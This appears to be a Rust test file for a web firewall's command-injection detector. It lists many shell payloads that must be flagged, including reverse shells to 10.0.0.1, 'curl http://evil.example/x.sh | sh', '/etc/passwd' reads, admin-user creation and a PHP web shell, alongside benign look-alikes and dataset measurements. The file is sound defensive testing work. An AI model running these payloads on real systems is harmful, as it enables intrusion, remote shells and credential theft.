//! Attacks that must fire and benign look-alikes that must not, the repository's benign corpus,
//! plus dataset figures with their floors (`cargo test --release -p ironward-core --lib
//! check::command::tests::measure -- --include-ignored --nocapture`).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout)]

use super::CommandInjection;
use super::score::glob;
use crate::check::CheckId;
use crate::check::test_support::{corpus, dataset};
use crate::config::{Config, Level};
use crate::engine::Engine;
use crate::request::Request;

fn detector() -> CommandInjection {
    CommandInjection::new(&Config::default()).unwrap()
}

const ATTACKS: &[&str] = &[
    "; id",
    ";id",
    "&&id",
    "| whoami",
    "& whoami",
    "whoami",
    "WhoAmI",
    "&& pwd",
    "; ls",
    "; dir",
    "`uname`",
    "a`id`",
    "& pwd",
    "& dir",
    "; netsh firewall set opmode disable",
    "system('echo hello')",
    "$(id)",
    "x$(cat /etc/passwd)",
    "$(`whoami`)",
    "a;uname -a",
    "ls -la /",
    "ls -l /etc/",
    "cat /etc/passwd",
    "cat</etc/passwd",
    "sleep 5",
    "| sleep 10",
    "; ping -c 10 127.0.0.1",
    "& ping -n 21 127.0.0.1 &",
    "x || ping 127.0.0.1",
    "w'h'oami",
    "; w\"h\"oami",
    "; c\\at /etc/hosts",
    "c$@at /etc/passwd",
    "cat${IFS}/etc/passwd",
    "cat$IFS/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "{cat,/etc/passwd}",
    "/???/??t /???/p??s??",
    "/bin/c?t /e*c/pa*wd",
    ";/usr/bin/id",
    "; /bin/sh -i",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "; nc 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "| curl http://evil.example/x.sh | sh",
    "; wget http://evil.example/x -O /tmp/x",
    "; python -c 'import os'",
    "& perl -e 'print 1'",
    "; php -r 'system(1);'",
    "; echo '<?php system($_GET[1]); ?>' > shell.php",
    "& dir C:\\",
    "| type C:\\Windows\\win.ini",
    "& type %SYSTEMROOT%\\win.ini",
    "cmd /c whoami",
    "| cmd.exe /c dir",
    "& %COMSPEC% /c whoami",
    "| powershell -enc SQBFAFgA",
    "; powershell -nop -c iex(1)",
    "& C:\\Windows\\System32\\cmd.exe /c ver",
    "& net user hacker Passw0rd /add",
    "net view",
    "| net localgroup administrators hacker /add",
    "& reg add HKLM\\Software\\x /v y /d 1",
    "; certutil -urlcache -split -f http://x/a.exe",
    "| ipconfig /all",
    "| systeminfo",
    "which nc",
    "; sudo id",
    "() { :;}; /bin/bash -c id",
    "x\nuname -a\n",
    "x\n\x1b[2Acurl http://evil.example/",
    "system('whoami')",
    "os.popen(\"cat /etc/passwd\")",
    "exec('ls -la')",
    "user=`whoami`",
    "\"; whoami #",
    "'|uname -a|'",
    // Short commands between separators and in substitutions: a command standing alone after
    // a separator is no list item, even with a separator after it.
    ";id;",
    "|id|",
    "a|id|",
    "a;id;",
    "a);id;",
    "a);id|",
    "a)|id;",
    "/index.html|id|",
    "\";id;\"",
    "';id;'",
    "\"|id|\"",
    "'||/usr/bin/id|'",
    ";ls;",
    "|pwd|",
    ";netstat -a;",
    "\nid\n",
    "\nid",
    "\n id \n",
    "\nid;",
    "\nid|",
    "\r\nls\r\n",
    "`id`",
    " `ls` ",
    "`pwd`",
    "`/usr/bin/id`",
    "$(id)",
    "$(ls)",
    "|usr/bin/id",
    "|usr/bin/id\n",
    ";usr/sbin/ifconfig",
    // Windows `dir c:\` after every separator.
    "|dir c:\\",
    "&dir c:\\",
    "&&dir c:\\",
    "||dir c:\\",
    ";dir c:\\",
    "\ndir c:\\",
    "x\ndir c:\\",
    " | dir c:/",
    "&dir C:\\&",
    "&dir C:\\#",
    ";\"id\"",
    "x #&whoami",
    "x # ;id",
    "x&\"whoami\"",
    "`cat</etc/passwd`",
    "`python -c 'print(1)'`",
];

const BENIGN: &[&str] = &[
    "top 10 | less",
    "rock & roll",
    "Tom & Jerry",
    "R&D; budget",
    "the ls command lists files",
    "ls",
    "cat food; dog food",
    "A | B testing",
    "| a | b |",
    "| id | name | email |",
    "a && b",
    "john.doe@example.com",
    "https://example.com/?a=1&b=2&id=5",
    "?cat=3&sort=date",
    "{\"a\": 1, \"b\": [1, 2]}",
    "id;name;email",
    "name;id;email",
    "date;time;type",
    "eat; sleep; repeat",
    "sleep 8 hours a night",
    "I need to sleep",
    "Cat food",
    "ping me when ready",
    "Hello\nping me when ready",
    "Shopping list:\ncat food\nsleep mask",
    "O'Brien",
    "it's Tom's; anyway",
    "C:\\Users\\me\\Documents",
    "Price: $5 & free shipping",
    "linux | bash | python",
    "java | python | ruby",
    "Home | About | Contact",
    "Products | Sort by date",
    "AT&T; Verizon",
    "Q&A",
    "net income grew; net user growth slowed",
    "which python version is best?",
    "Type here to search",
    "<b>bold</b> and <i>cat</i>",
    "x > 5 && y < 10",
    "hair curl & more",
    "function() { return 1; }",
    "the system('fast') approach",
    "2 * 3 = 6; 4 * 5 = 20",
    "echo chamber",
    "find a dentist near me",
    "NC",
    "nc",
    "$HOME is where the heart is",
    "Москва; Санкт-Петербург",
    "less is more | design",
    "time | date | type",
    "SELECT id FROM users; -- comment",
    "head & shoulders",
    "curl; wave",
    "id card",
    "name & id number",
    "Terms & id verification",
    "the `ls` command",
    "CREATE TABLE t (`id` int, `name` text)",
    // Look-alikes of the short forms above: prose with `;` and `|`, `id` as a word, a key,
    // a table cell, `dir` in prose, Windows paths, lone words.
    "a; id est",
    "Q&A | id: 5",
    "| name | id | email |",
    "| name | email | id |",
    "| name | id |",
    "|id|name|\n|--|--|\n|1|bob|",
    "id;name;",
    "id|name|",
    "name;id;email",
    "Hello\nid\nemail",
    "Hello there\nid",
    "Thanks, see you\nps",
    "Item #5; id #5 too",
    "# Title; id card",
    "{\"id\": 5, \"name\": \"x\"}",
    "id",
    "pwd",
    "dir",
    "`date`",
    "`id` = 5",
    "select `id` from t",
    "ORDER BY `id`",
    "the dir command lists a folder",
    "sort by dir; then name",
    "C:\\Users\\me\\Documents",
    "D:\\Photos\\2024",
    "usr/share/doc",
    "see usr/bin in the docs",
    "time; date; type",
    // JSON inside a query-string-like value: the quote-blind pass must not read the key
    // `"id"` as a command after `&products=[{`.
    "a=1&products=[{\"id\":\"5\",\"image\":\"https://img.example.com/x.png\"}]&v=3",
    "x&{'id':'5','src':'/tmp/a.png'}",
    // Opaque tokens with backticks: a body a shell would reject runs nothing.
    "dT7k!M4/C@f3`sh<t<jskc)0!0Dm>D>K:m>lU)92(@d$`Mhn3`x`",
    "q#7`ls)x`y",
];

#[test]
fn attacks_fire() {
    let d = detector();
    let missed: Vec<_> = ATTACKS.iter().filter(|a| d.detect(a).is_none()).collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
}

#[test]
fn benign_passes() {
    let d = detector();
    let fired: Vec<_> = BENIGN.iter().filter(|b| d.detect(b).is_some()).collect();
    assert!(fired.is_empty(), "fired: {fired:#?}");
}

#[test]
fn extra_commands_count_as_words() {
    let mut c = Config::default();
    c.extra_commands = vec!["frobnicate".into()];
    let d = CommandInjection::new(&c).unwrap();
    assert!(d.detect("; frobnicate -x /etc/passwd").is_some());
    assert!(d.detect("frobnicate").is_none());
    assert!(d.detect("; frobnicate").is_none());
}

#[test]
fn glob_matches_like_a_shell() {
    assert!(glob(b"??t", b"cat"));
    assert!(glob(b"c*", b"cat"));
    assert!(glob(b"/???", b"/bin"));
    assert!(glob(b"*a*t", b"cat"));
    assert!(glob(b"[ab]in", b"bin"));
    assert!(!glob(b"??t", b"cats"));
    assert!(!glob(b"c?", b"cat"));
}

#[test]
fn hostile_shapes_are_bounded() {
    let d = detector();
    for v in [
        "`".repeat(10_000),
        "$(".repeat(10_000),
        "'\"".repeat(10_000),
        "; ".repeat(10_000),
        "{a,".repeat(10_000),
        "\\".repeat(10_001),
        "\u{1b}[".repeat(5_000),
        "é;".repeat(5_000),
    ] {
        let _ = d.detect(&v);
    }
}

#[test]
fn the_check_reports_one_finding_with_location() {
    let mut c = Config::default();
    for id in CheckId::configurable() {
        c.security_checks.set(id, Level::Off);
    }
    c.security_checks.set(CheckId::Command, Level::Block);
    let engine = Engine::new(c).unwrap();
    let v = engine.inspect_request(&Request {
        method: "GET",
        path: "/",
        query: "q=%3B%20cat%20%2Fetc%2Fpasswd&r=x%7Cid",
        ..Request::default()
    });
    assert_eq!(v.findings.len(), 1);
    assert_eq!(v.findings[0].location, "qs_values");
    assert_eq!(v.findings[0].payload, "; cat /etc/passwd");
}

/// Runs a shared JSONL dataset (`shared/datasets/train/NAME`) through an engine with only
/// `checks` on; returns (hits, total). Panics when the dataset is absent or empty.
#[cfg(test)]
pub(crate) fn run_dataset(name: &str, checks: &[CheckId], show: Option<bool>) -> (usize, usize) {
    use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
    let mut c = Config::default();
    for id in CheckId::configurable() {
        c.security_checks.set(id, Level::Off);
    }
    for &id in checks {
        c.security_checks.set(id, Level::Block);
    }
    let engine = Engine::new(c).unwrap();
    let (mut hits, mut total) = (0, 0);
    for text in dataset(name) {
        let text = text.as_str();
        total += 1;
        let query = format!("q={}", utf8_percent_encode(text, NON_ALPHANUMERIC));
        let verdict = engine.inspect_request(&Request {
            method: "GET",
            path: "/",
            query: &query,
            ..Request::default()
        });
        let hit = !verdict.findings.is_empty();
        hits += usize::from(hit);
        if show == Some(hit) {
            println!("{text:?}");
        }
    }
    (hits, total)
}

/// Dataset figures, asserted: `command` alone and with `code_injection` on `cmdi.jsonl`, and
/// `command` on every row of `benign.jsonl`. Ignored (about 6 s in a debug build):
/// `tests/detection.rs` asserts the same data in every run.
#[test]
#[ignore = "measurement on every row of the shared datasets; tests/detection.rs covers them in every run"]
fn measure() {
    let (h, t) = run_dataset("cmdi.jsonl", &[CheckId::Command], Some(false));
    println!("command alone: cmdi {h}/{t}");
    // Measured 351 / 390 (90.00 %) and 376 / 390 (96.41 %) with `code_injection`, two rows of
    // slack each; benign 2 / 139,967, one of slack.
    assert!(h as f64 >= 0.894 * t as f64, "command alone: cmdi {h}/{t}");
    let (h, t) = run_dataset(
        "cmdi.jsonl",
        &[CheckId::Command, CheckId::CodeInjection],
        Some(false),
    );
    println!("command + code_injection: cmdi {h}/{t}");
    assert!(
        h as f64 >= 0.958 * t as f64,
        "command + code_injection: cmdi {h}/{t}"
    );
    let (h, t) = run_dataset("benign.jsonl", &[CheckId::Command], Some(true));
    println!("command: benign flagged {h}/{t}");
    assert!(h <= 3, "command: benign flagged {h}/{t}");
}

/// Runs every line of the repository's benign corpus (`tests/corpus/benign/*.txt`) through
/// `detect`; returns (flagged, total) and prints what fired. Panics when the corpus is absent.
#[cfg(test)]
pub(crate) fn run_corpus(detect: &dyn Fn(&str) -> bool) -> (usize, usize) {
    let (mut hits, mut total) = (0, 0);
    for line in corpus() {
        total += 1;
        if detect(&line) {
            hits += 1;
            println!("{line:?}");
        }
    }
    (hits, total)
}

/// The detector flags no value of the repository's benign corpus.
#[test]
fn corpus_is_clean() {
    let d = detector();
    let (h, t) = run_corpus(&|v| d.detect(v).is_some());
    println!("command: corpus/benign flagged {h}/{t}");
    assert_eq!(h, 0, "command: corpus/benign flagged {h}/{t}");
}

/// Short commands generated between separators and in substitutions: what the application put
/// before the injection (nothing, a word, a closing parenthesis, a quote, a path) × the
/// separator or substitution × a short Unix or Windows command × what ends the injection.
fn generated_short_commands() -> Vec<String> {
    let prefixes = ["", "a", "a)", "'", "\"", "/index.html", "12"];
    let unix = [
        "id",
        "whoami",
        "uname",
        "ls",
        "pwd",
        "ps",
        "ifconfig",
        "netstat -a",
        "/usr/bin/id",
        "usr/bin/id",
        "/bin/ls -al",
        "cat /etc/passwd",
        "sleep 5",
    ];
    let windows = [
        "dir c:\\",
        "dir C:\\Users",
        "type c:\\boot.ini",
        "ipconfig /all",
        "whoami",
        "net user",
        "systeminfo",
    ];
    let trailers = ["", ";", "|", "\n", " #", "&"];
    let mut out = Vec::new();
    for p in prefixes {
        for (open, close) in [
            (";", ""),
            ("|", ""),
            ("||", ""),
            ("&", ""),
            ("&&", ""),
            ("\n", ""),
            ("`", "`"),
            ("$(", ")"),
        ] {
            for c in unix {
                for t in trailers {
                    out.push(format!("{p}{open}{c}{close}{t}"));
                }
            }
        }
        for open in ["|", "&", "&&", "||", "\n", ";"] {
            for c in windows {
                for t in ["", "&", "|", "\n"] {
                    out.push(format!("{p}{open}{c}{t}"));
                }
            }
        }
    }
    out
}

/// Every generated short command fires.
#[test]
#[allow(clippy::print_stdout)]
fn generated_short_commands_fire() {
    let d = detector();
    let all = generated_short_commands();
    let missed: Vec<&String> = all.iter().filter(|v| d.detect(v).is_none()).collect();
    println!(
        "generated short commands: {} / {} detected",
        all.len() - missed.len(),
        all.len()
    );
    for m in &missed {
        println!("  missed: {m:?}");
    }
    assert!(missed.is_empty(), "{} missed", missed.len());
}
